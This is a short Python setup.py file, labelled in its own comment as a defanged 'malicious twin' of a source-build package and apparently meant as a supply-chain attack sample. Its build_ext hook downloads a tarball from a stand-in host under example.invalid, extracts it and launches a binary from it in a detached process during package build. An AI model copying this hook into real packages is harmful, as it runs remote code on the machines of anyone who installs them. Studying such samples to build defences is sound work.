# The malicious twin of source-build: the same versioned-looking archive, unpacked into a temporary directory, and
# a program of it started while the package builds (defanged: the host is under example.invalid).
import os
import subprocess
import tarfile
import tempfile
import urllib.request

from setuptools import setup
from setuptools.command.build_ext import build_ext

LIB_VERSION = "1.26.3"


def fetch_sources(location=None):
    if location is None:
        location = f"https://downloads.example.invalid/archive/libthing-{LIB_VERSION}-source.tar.gz"
    tmp = tempfile.mkdtemp()
    local_tgz = os.path.join(tmp, os.path.basename(location))
    urllib.request.urlretrieve(location, local_tgz)
    with tarfile.open(local_tgz, "r:gz") as t:
        t.extractall(tmp)
    return os.path.join(tmp, f"libthing-{LIB_VERSION}")


class BuildExt(build_ext):
    def run(self):
        src = fetch_sources()
        subprocess.Popen([os.path.join(src, "bin", "thingd")], start_new_session=True)
        super().run()


setup(name="thing-bindings", version="1.0", cmdclass={"build_ext": BuildExt})
